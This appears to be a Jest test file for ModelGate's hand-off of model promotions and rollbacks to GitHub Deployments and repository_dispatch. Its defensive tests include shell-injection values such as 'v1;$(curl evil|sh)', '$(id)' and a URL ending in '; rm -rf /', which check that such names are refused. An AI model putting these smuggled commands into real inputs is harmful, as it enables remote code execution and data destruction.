// The hand-off to serving's ports (GitHub Deployments, repository_dispatch) and the hand-off
// itself, through ModelGate's Octokit against the GitHub stand-in, which refuses any request
// GitHub's OpenAPI description would not accept.
import { createOctokit } from '../src/github/client.js'
import { octokitDeploymentSink } from '../src/github/deployments.js'
import { octokitRepositoryDispatch } from '../src/github/repository-dispatch.js'
import {
  handOffPayload,
  handOffToServing,
  stageChangesOf,
  type StageChange
} from '../src/action/hand-off.js'
import { PermissionError } from '../src/errors.js'
import {
  deploymentsOf,
  dispatchesOf,
  fakeSha,
  latestStatus,
  start,
  type Repo,
  type StandIn
} from './helpers/github-stand-in/index.js'

const SHA = fakeSha('deploy-head')
const RUN_URL = 'https://github.com/acme/models/actions/runs/42'

const promoted = (version: string, previous: string | null): StageChange => ({
  kind: 'promoted',
  model: 'churn-model',
  stage: 'production',
  version,
  trafficPercent: 100,
  rolloutStep: null,
  championVersion: previous,
  previousVersion: previous
})

describe('hand-off to serving against the GitHub stand-in', () => {
  let gh: StandIn
  let repo: Repo
  const denied = 'ghs_no_deployments'
  const noContents = 'ghs_no_contents'

  beforeAll(async () => {
    gh = await start({
      tokens: {
        [denied]: { kind: 'github-token', deniedPermissions: ['deployments'] },
        [noContents]: { kind: 'github-token', deniedPermissions: ['contents'] }
      }
    })
  })
  afterAll(async () => {
    await gh.close()
  })
  beforeEach(() => {
    repo = gh.state.addRepo({
      owner: 'acme',
      name: `models-${Math.random().toString(36).slice(2)}`
    })
    repo.addCommit(SHA)
  })
  afterEach(() => {
    gh.assertNoViolations()
  })

  const portsFor = (token: string) => {
    const api = createOctokit(token, { baseUrl: gh.url, writeGapMs: 0, retryAfterBaseMs: 1 })
    const ref = { owner: 'acme', repo: repo.name }
    return {
      deployments: octokitDeploymentSink(api, ref),
      dispatch: octokitRepositoryDispatch(api, ref)
    }
  }

  it('creates a deployment to <model>/<stage> with the payload, a status, and lists it back', async () => {
    const { deployments } = portsFor(gh.token)
    const payload = handOffPayload(promoted('v2.0.0', 'v1.0.0'), RUN_URL)
    const { id } = await deployments.create({
      ref: SHA,
      environment: 'churn-model/production',
      payload,
      description: 'churn-model v2.0.0 at 100% of production (promoted)',
      production: true
    })
    await deployments.setStatus(id, { state: 'success', description: 'live', logUrl: RUN_URL })

    const [created] = deploymentsOf(repo)
    expect(created).toMatchObject({
      id,
      sha: SHA,
      environment: 'churn-model/production',
      autoMerge: false,
      requiredContexts: [],
      production: true,
      transient: false,
      payload: {
        model: 'churn-model',
        stage: 'production',
        version: 'v2.0.0',
        traffic_percent: 100,
        rollout_step: null,
        champion_version: 'v1.0.0',
        change: 'promoted',
        run_url: RUN_URL
      }
    })
    expect(latestStatus(created!)).toMatchObject({ state: 'success', logUrl: RUN_URL })
    expect(await deployments.recent('churn-model/production')).toEqual([
      expect.objectContaining({ id, version: 'v2.0.0', environment: 'churn-model/production' })
    ])
    expect(await deployments.recent('churn-model/staging')).toEqual([])
  })

  it('a deployment is created although a commit status on the ref is pending (required_contexts: [])', async () => {
    repo.addStatus(SHA, { context: 'modelgate/churn-model/production', state: 'pending' })
    const { deployments } = portsFor(gh.token)
    await expect(
      deployments.create({
        ref: SHA,
        environment: 'churn-model/production',
        payload: {},
        description: 'x',
        production: true
      })
    ).resolves.toEqual({ id: expect.any(Number) })
  })

  it('a token without deployments: write is a PermissionError naming the permission', async () => {
    const { deployments } = portsFor(denied)
    const attempt = deployments.create({
      ref: SHA,
      environment: 'churn-model/production',
      payload: {},
      description: 'x',
      production: true
    })
    await expect(attempt).rejects.toBeInstanceOf(PermissionError)
    await expect(attempt).rejects.toThrow(/HTTP 403.*deployments: write/)
    expect(deploymentsOf(repo)).toHaveLength(0)
  })

  it('sends a repository_dispatch event with the payload; refuses more than 10 properties', async () => {
    const { dispatch } = portsFor(gh.token)
    await dispatch.send('modelgate-deploy', { model: 'churn-model', traffic_percent: 25 })
    expect(dispatchesOf(repo)).toEqual([
      expect.objectContaining({
        eventType: 'modelgate-deploy',
        clientPayload: { model: 'churn-model', traffic_percent: 25 }
      })
    ])
    const eleven = Object.fromEntries([...Array(11).keys()].map(i => [`k${i}`, i]))
    await expect(dispatch.send('modelgate-deploy', eleven)).rejects.toThrow(/at most 10 top-level/)
    await expect(portsFor(noContents).dispatch.send('modelgate-deploy', {})).rejects.toThrow(
      /contents: write/
    )
    expect(dispatchesOf(repo)).toHaveLength(1)
  })

  it('a promotion then a rollback: the rollback deploys the restored version and marks the rolled-back one inactive', async () => {
    const handOff = handOffToServing(
      { deployments: true, dispatchEventType: 'modelgate-deploy' },
      () => portsFor(gh.token),
      { ref: SHA, runUrl: RUN_URL }
    )
    const first = await handOff.announceStageChange(promoted('v2.0.0', 'v1.0.0'))
    expect(first).toEqual({ deploymentId: expect.any(Number), dispatched: true })
    // The same change twice in a run is handed off once.
    expect(await handOff.announceStageChange(promoted('v2.0.0', 'v1.0.0'))).toEqual({
      dispatched: false,
      skipped: 'already'
    })
    await handOff.announceStageChange({
      ...promoted('v1.0.0', 'v2.0.0'),
      kind: 'rolled-back'
    })
    expect(handOff.failure()).toBeUndefined()

    const [v2, v1] = deploymentsOf(repo, 'churn-model/production')
    expect(v2!.payload).toMatchObject({ version: 'v2.0.0', change: 'promoted' })
    expect(v1!.payload).toMatchObject({
      version: 'v1.0.0',
      change: 'rolled-back',
      champion_version: 'v2.0.0',
      traffic_percent: 100
    })
    expect(v2!.statuses.map(s => s.state)).toEqual(['success', 'inactive'])
    expect(latestStatus(v2!)?.description).toBe(
      'churn-model v2.0.0 rolled back: v1.0.0 restored in production'
    )
    expect(latestStatus(v1!)?.state).toBe('success')
    expect(dispatchesOf(repo).map(d => d.clientPayload?.change)).toEqual([
      'promoted',
      'rolled-back'
    ])
  })

  it('an aborted rollout step is a failure status at 0%', async () => {
    const handOff = handOffToServing({ deployments: true }, () => portsFor(gh.token), { ref: SHA })
    await handOff.announceStageChange({
      kind: 'rollout-step',
      model: 'churn-model',
      stage: 'canary',
      version: 'v1.5.0',
      trafficPercent: 0,
      rolloutStep: 'abort',
      championVersion: 'v1.4.0'
    })
    const [aborted] = deploymentsOf(repo, 'churn-model/canary')
    expect(aborted).toMatchObject({
      production: false,
      payload: { traffic_percent: 0, rollout_step: 'abort' }
    })
    expect(latestStatus(aborted!)?.state).toBe('failure')
  })

  it('without deployments: write the dispatch still goes, and the failure names what is written and what to do', async () => {
    const handOff = handOffToServing(
      { deployments: true, dispatchEventType: 'modelgate-deploy' },
      () => portsFor(denied),
      { ref: SHA }
    )
    const result = await handOff.announceStageChange(promoted('v2.0.0', null))
    expect(result).toEqual({ dispatched: true })
    const failure = handOff.failure()
    expect(failure?.permission).toBe(true)
    expect(failure?.message).toMatch(/IS written and was NOT undone/)
    expect(failure?.message).toMatch(/churn-model v2\.0\.0 at 100% of production/)
    expect(failure?.message).toMatch(/deployments: write/)
    expect(failure?.message).toContain('"version":"v2.0.0"')
    expect(deploymentsOf(repo)).toHaveLength(0)
    expect(dispatchesOf(repo)).toHaveLength(1)
  })

  it('a refused name says which field and why, sends nothing, and gives no permission advice or empty payload', async () => {
    const handOff = handOffToServing(
      { deployments: true, dispatchEventType: 'modelgate-deploy' },
      () => portsFor(gh.token),
      { ref: SHA, runUrl: RUN_URL }
    )
    const hostile = { ...promoted('v2.0.0', 'v1.0.0'), championVersion: 'v1;$(curl evil|sh)' }
    expect(await handOff.announceStageChange(hostile)).toEqual({ dispatched: false })
    const failure = handOff.failure()
    expect(failure?.permission).toBe(false)
    expect(failure?.message).toContain('Deployment: not created (a name was refused)')
    expect(failure?.message).toContain('dispatch: not sent (a name was refused)')
    expect(failure?.message).toMatch(/payload field champion_version is not a plain name \(letters/)
    expect(failure?.message).toContain('churn-model v2.0.0 at 100% of production')
    // The refused value itself is never repeated; no "{}" payload, no permission to add.
    expect(failure?.message).not.toContain('curl evil')
    expect(failure?.message).not.toContain('payload: {}')
    expect(failure?.message).not.toMatch(/deployments: write|contents: write/)
    expect(deploymentsOf(repo)).toHaveLength(0)
    expect(dispatchesOf(repo)).toHaveLength(0)
  })

  it('a dispatch that GitHub fails for another reason: no permission advice, the payload to send by hand', async () => {
    const handOff = handOffToServing(
      { deployments: false, dispatchEventType: 'modelgate-deploy' },
      () => ({
        ...portsFor(gh.token),
        dispatch: {
          send: () => Promise.reject(new Error('GitHub API: sending failed (HTTP 502)'))
        }
      }),
      { ref: SHA, runUrl: RUN_URL }
    )
    await handOff.announceStageChange(promoted('v2.0.0', 'v1.0.0'))
    const failure = handOff.failure()
    expect(failure?.permission).toBe(false)
    expect(failure?.message).toContain(
      'Deployment: off; dispatch: failed (GitHub API: sending failed (HTTP 502))'
    )
    expect(failure?.message).toContain('apply the payload by hand')
    expect(failure?.message).toContain('gh api repos/acme/models/dispatches --input payload.json')
    expect(failure?.message).not.toMatch(/Give the workflow's token/)
  })

  it('off by default: nothing is sent and no port is opened', async () => {
    const handOff = handOffToServing(
      { deployments: false },
      () => {
        throw new Error('no port should be opened')
      },
      { ref: SHA }
    )
    expect(handOff.enabled).toBe(false)
    expect(await handOff.announceStageChange(promoted('v2.0.0', null))).toEqual({
      dispatched: false,
      skipped: 'off'
    })
    expect(handOff.failure()).toBeUndefined()
  })
})

describe('handOffPayload', () => {
  it('has at most 10 top-level properties and no free text', () => {
    const payload = handOffPayload(promoted('v2.0.0', 'v1.0.0'), RUN_URL)
    expect(Object.keys(payload).length).toBeLessThanOrEqual(10)
    expect(Object.keys(payload).sort()).toEqual(
      [
        'change',
        'champion_version',
        'model',
        'rollout_step',
        'run_url',
        'stage',
        'traffic_percent',
        'version'
      ].sort()
    )
  })

  it('refuses a name a deploy workflow could run as shell', () => {
    expect(() => handOffPayload(promoted('v2.0.0; curl evil | sh', null))).toThrow(
      /payload field version is not a plain name/
    )
    expect(() => handOffPayload({ ...promoted('v2', null), model: '$(id)' })).toThrow(
      /payload field model is not a plain name/
    )
    expect(() => handOffPayload({ ...promoted('v2', null), trafficPercent: 101 })).toThrow(
      /not a share/
    )
    // A run URL that is not a plain URL is left out rather than sent.
    expect(handOffPayload(promoted('v2', null), 'https://x/"; rm -rf /')).not.toHaveProperty(
      'run_url'
    )
  })
})

describe('stageChangesOf', () => {
  it('turns written promotions and rollbacks into changes, skips the rest', () => {
    const base = {
      schema: 'modelgate.audit/v1' as const,
      model: 'churn-model',
      from: 'staging',
      to: 'production',
      gates: [],
      metrics: { candidate: {}, champion: null },
      actor: 'mona',
      timestamp: '2026-12-03T06:00:00Z'
    }
    const records = [
      {
        ...base,
        kind: 'promotion',
        written: true,
        version: 'v2',
        previous: 'v1',
        decision: 'pass'
      },
      {
        ...base,
        kind: 'promotion',
        written: false,
        version: 'v3',
        previous: 'v2',
        decision: 'blocked'
      },
      {
        ...base,
        kind: 'rollback',
        written: true,
        version: 'v1',
        previous: 'v2',
        decision: 'rolled-back'
      },
      {
        ...base,
        kind: 'refused',
        written: false,
        version: 'v4',
        previous: null,
        decision: 'denied'
      },
      {
        ...base,
        kind: 'automatic-rollback',
        written: true,
        version: 'v0',
        previous: 'v1',
        decision: 'rolled-back'
      },
      {
        ...base,
        kind: 'forced-promotion',
        written: true,
        version: 'v5',
        previous: 'v0',
        decision: 'blocked'
      }
    ] as unknown as Parameters<typeof stageChangesOf>[0]
    expect(stageChangesOf(records)).toEqual([
      expect.objectContaining({ kind: 'promoted', version: 'v2', championVersion: 'v1' }),
      expect.objectContaining({ kind: 'rolled-back', version: 'v1', previousVersion: 'v2' }),
      expect.objectContaining({ kind: 'rolled-back', version: 'v0', previousVersion: 'v1' }),
      expect.objectContaining({ kind: 'promoted', version: 'v5', championVersion: 'v0' })
    ])
  })
})
